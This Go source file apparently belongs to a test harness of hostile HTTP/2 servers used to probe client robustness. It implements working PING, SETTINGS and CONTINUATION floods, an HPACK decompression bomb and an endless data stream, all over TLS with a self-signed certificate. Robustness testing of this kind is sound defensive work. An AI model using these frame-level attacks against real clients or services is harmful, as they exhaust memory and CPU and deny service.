package hostile

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"io"
	"math/big"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The HTTP/2 peers speak TLS with ALPN h2 (a probe asks for h2 only
// over TLS) and then attack at the frame level, where a library's
// defaults decide what a probe builds: a PING or SETTINGS flood, a
// header block that never ends (CONTINUATION), a small header block that
// decompresses to megabytes (HPACK), a response that never ends. A probe
// of one of them targets it with https, TLS verification off, and
// protocols [h2].
func init() {
	behaviours["http2-ping-flood"] = h2(func(fr *http2.Framer) {
		for sent := 0; sent < Cap; sent += 17 {
			if fr.WritePing(false, [8]byte{1, 2, 3, 4, 5, 6, 7, 8}) != nil {
				return
			}
		}
	})
	behaviours["http2-settings-flood"] = h2(func(fr *http2.Framer) {
		for sent := 0; sent < Cap; sent += 15 {
			if fr.WriteSettings(http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100}) != nil {
				return
			}
		}
	})
	behaviours["http2-continuation-flood"] = h2(func(fr *http2.Framer) {
		block := h2Headers(":status", "200")
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}) != nil {
			return
		}
		frag := h2Headers("x-flood", strings.Repeat("c", 1000))
		for sent := 0; sent < Cap; sent += len(frag) + 9 {
			if fr.WriteContinuation(1, false, frag) != nil {
				return
			}
		}
	})
	behaviours["http2-hpack-bomb"] = h2(func(fr *http2.Framer) {
		// One 4 KiB header enters the dynamic table; every further
		// mention of it is one byte on the wire: 16 KiB of block decode
		// to 64 MiB.
		var buf bytes.Buffer
		enc := hpack.NewEncoder(&buf)
		enc.SetMaxDynamicTableSizeLimit(8192)
		enc.WriteField(hpack.HeaderField{Name: ":status", Value: "200"})
		big := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)}
		for range 16 << 10 {
			enc.WriteField(big)
		}
		block := buf.Bytes()
		first := min(len(block), 16<<10)
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:first], EndHeaders: first == len(block)}) != nil {
			return
		}
		for rest := block[first:]; len(rest) > 0; {
			n := min(len(rest), 16<<10)
			if fr.WriteContinuation(1, n == len(rest), rest[:n]) != nil {
				return
			}
			rest = rest[n:]
		}
	})
	behaviours["http2-endless-stream"] = h2(func(fr *http2.Framer) {
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h2Headers(":status", "200"), EndHeaders: true}) != nil {
			return
		}
		chunk := bytes.Repeat([]byte{'d'}, 16<<10)
		for sent := 0; sent < Cap; sent += len(chunk) {
			if fr.WriteData(1, false, chunk) != nil {
				return
			}
		}
	})
}

// h2 accepts TLS with ALPN h2, reads the client's preface, sends its own
// SETTINGS, waits for the request's HEADERS, and then does attack,
// reading (and dropping) whatever the client sends meanwhile.
func h2(attack func(*http2.Framer)) func(*Peer, net.Conn) {
	return func(_ *Peer, c net.Conn) {
		tc := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{h2Cert()}, NextProtos: []string{"h2"}})
		tc.SetDeadline(time.Now().Add(30 * time.Second))
		if tc.Handshake() != nil {
			return
		}
		preface := make([]byte, len(http2.ClientPreface))
		if _, err := io.ReadFull(tc, preface); err != nil {
			return
		}
		fr := http2.NewFramer(tc, tc)
		if fr.WriteSettings() != nil {
			return
		}
		// The attack answers the request, as a server would: a frame on
		// stream 1 before the client opened it is a different attack
		// (the client drops the connection as unsolicited), and which
		// one a run tried would depend on scheduling.
		for range 16 {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			if _, ok := f.(*http2.HeadersFrame); ok {
				break
			}
		}
		go io.Copy(io.Discard, io.LimitReader(tc, 1<<20))
		attack(fr)
	}
}

func h2Headers(kv ...string) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for i := 0; i+1 < len(kv); i += 2 {
		enc.WriteField(hpack.HeaderField{Name: kv[i], Value: kv[i+1]})
	}
	return buf.Bytes()
}

// h2Cert is a self-signed certificate for the HTTP/2 peers, made once.
var h2Cert = sync.OnceValue(func() tls.Certificate {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "hostile.example.test"},
		DNSNames: []string{"hostile.example.test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		panic(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
})
